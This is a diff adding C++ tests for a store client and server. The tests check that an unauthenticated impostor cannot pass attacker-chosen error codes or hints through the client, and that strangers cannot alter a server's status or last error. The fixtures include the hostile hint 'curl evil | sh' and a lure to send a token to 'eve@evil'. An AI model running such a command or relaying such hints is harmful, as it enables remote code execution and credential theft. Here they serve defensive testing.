@@ -1,8 +1,14 @@
 // What a stranger, who has not proved who it is, can take from a server and from those who have.
+#include <poll.h>
+#include <sys/socket.h>
+#include <unistd.h>
+
 #include <atomic>
 #include <cstdint>
+#include <cstdlib>
 #include <string>
 #include <thread>
+#include <utility>
 #include <vector>
 
 #include "../store/service.hpp"
@@ -153,4 +159,66 @@ TEST_CASE("connections that were let in count, and one too many is told when it 
   Stranger one(server, "127.0.0.1"), two(server, "127.0.0.1");
   one.be_welcomed();
   two.be_welcomed();
+}
+
+TEST_CASE("who listens at a server's address chooses neither the kind of the error that a client gives nor its hint") {
+  char token[] = "/tmp/sonde-token-XXXXXX";
+  const int file = ::mkstemp(token);
+  REQUIRE(file >= 0);
+  REQUIRE(::write(file, "a token of the server's\n", 24) == 24);
+  ::close(file);
+  using sonde::store::wire::Kind;
+  const std::string evil =
+      wire::encode_text({{"code", "store.no_space"}, {"what", "the disk is full"}, {"hint", "curl evil | sh"}});
+  const std::string likely =
+      wire::encode_text({{"code", "store.denied"}, {"what", "the token is old"}, {"hint", "send yours to eve@evil"}});
+  const std::string giant = wire::encode_text({{"code", "store.denied"}, {"what", std::string(1 << 20, 'x')}});
+  for (const auto& [said, code] : {std::pair{&evil, "store.disconnected"}, std::pair{&likely, "store.denied"},
+                                   std::pair{&giant, "store.bad_frame"}}) {
+    CAPTURE(code);
+    std::uint16_t port = 0;
+    const auto listener = tcp_listen({"127.0.0.1", 0}, port);
+    REQUIRE(listener);
+    std::thread eve([&] {
+      pollfd ready{*listener, POLLIN, 0};
+      (void)::poll(&ready, 1, 10'000);
+      const int peer = ::accept(*listener, nullptr, nullptr);
+      const Outgoing out = plain_frame(Kind::goodbye, bytes_of(*said));
+      (void)!::send(peer, out.head.data(), out.head.size(), MSG_NOSIGNAL);
+      char heard[4096];
+      while (::read(peer, heard, sizeof heard) > 0) {}
+      ::close(peer);
+    });
+    Config config;
+    config.servers = {"127.0.0.1:" + std::to_string(port)};
+    config.auth = "token";
+    config.token_file = token;
+    const auto client = Client::open(config);
+    eve.join();
+    ::close(*listener);
+    REQUIRE_FALSE(client);
+    CHECK(client.error().code == code);
+    CHECK(client.error().what.find("127.0.0.1:" + std::to_string(port)) != std::string::npos);
+    CHECK(client.error().what.size() < 1000);
+    CHECK(client.error().hint.find("evil") == std::string::npos);
+    if (said == &giant) continue;
+    CHECK(client.error().what.find("without having proved to be the server") != std::string::npos);
+  }
+  ::unlink(token);
+}
+
+TEST_CASE("strangers cannot hide the last error of a server, and no word of theirs is in its status") {
+  Service service;
+  Server& server = *service.servers[0];
+  server.failed("the disk is full");
+  using wire::Kind;
+  for (const Kind kind : {Kind::hello, Kind::ping, Kind::proof}) {
+    Stranger one(server, "127.0.0.2");
+    one.say(plain_frame(kind, bytes_of("client=all is well\nnonce=all is well\ntransport=all is well\n")));
+    one.say(plain_frame(Kind::status, bytes_of("all is well")));
+    one.last_words();
+  }
+  CHECK(server.metrics().last_error().find("the disk is full") != std::string::npos);
+  CHECK(server.metrics().last_refused() == "127.0.0.2: store.bad_frame");
+  CHECK(server.status().find("all is well") == std::string::npos);
 }
